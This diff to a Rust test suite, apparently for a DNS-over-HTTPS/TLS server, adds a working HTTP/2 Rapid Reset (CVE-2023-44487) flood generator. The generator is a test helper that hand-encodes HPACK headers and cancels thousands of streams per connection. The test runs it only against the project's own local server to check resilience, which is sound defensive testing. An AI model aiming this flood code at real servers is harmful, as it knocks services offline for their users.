@@ -9,7 +9,7 @@ use std::net::{Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
 use std::thread;
 use std::time::{Duration, Instant};
 
-use super::support::{Kept, Query, Server, beside, http};
+use super::support::{Kept, Query, Server, beside, free_port, http};
 use super::tls::Issued;
 use super::{REGIONS, STEERING, ZONE, dot};
 
@@ -208,6 +208,61 @@ fn handshakes_that_stall() {
             drip(&mut crowd, &[0], until);
         });
     });
+}
+
+/// A frame of HTTP/2 (RFC 9113 §4.1).
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let len = (payload.len() as u32).to_be_bytes();
+    [&len[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
+}
+
+/// Begins requests over HTTP/2 and takes each back at once (CVE-2023-44487), on one connection after the other.
+fn reset_rapidly(doh: SocketAddr, issued: &Issued, until: Instant) -> u64 {
+    // POST, https, the path, an authority, the type: as HPACK has them (RFC 7541, appendix A).
+    let head = [
+        &[0x83, 0x87, 0x04, 10][..],
+        b"/dns-query",
+        &[0x01, 1, b'x', 0x0f, 0x10, 23],
+        b"application/dns-message",
+    ]
+    .concat();
+    let mut resets = 0;
+    while Instant::now() < until {
+        let mut client = dot::connect_for(b"h2", doh, issued);
+        let mut out = [&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &frame(4, 0, 0, &[])].concat();
+        for stream in (1..).step_by(2).take(10_000) {
+            out.extend(frame(1, 4, stream, &head));
+            out.extend(frame(3, 0, stream, &8u32.to_be_bytes()));
+            // Written until the server has had enough.
+            if out.len() > 8_000 {
+                let written = client.write_all(&out).and_then(|()| client.flush());
+                out.clear();
+                if written.is_err() || Instant::now() > until {
+                    break;
+                }
+            }
+            resets += 1;
+        }
+    }
+    resets
+}
+
+#[test]
+fn requests_over_https_that_are_taken_back_at_once() {
+    let (issued, doh) = (Issued::new(), free_port());
+    let (server, _) = dot::start(&format!("doh = [\"{doh}\"]\n"), &issued.pair());
+    let resets = keeps(&server, "rapid reset", || {
+        let until = Instant::now() + ATTACK;
+        thread::scope(|scope| {
+            let attack = scope.spawn(|| reset_rapidly(doh, &issued, until));
+            newcomers_are_served(&server, until);
+            attack.join().unwrap()
+        })
+    });
+    let accepted = server.metric("homing_tcp_connections_total{event=\"accepted\"}");
+    let failed = server.metric("homing_tcp_connections_total{event=\"failed\"}");
+    println!("{resets} resets, {accepted} connections, of which {failed} were cut off");
+    assert!(resets > 1_000 && failed > 1, "{resets} {failed}");
 }
 
 #[test]
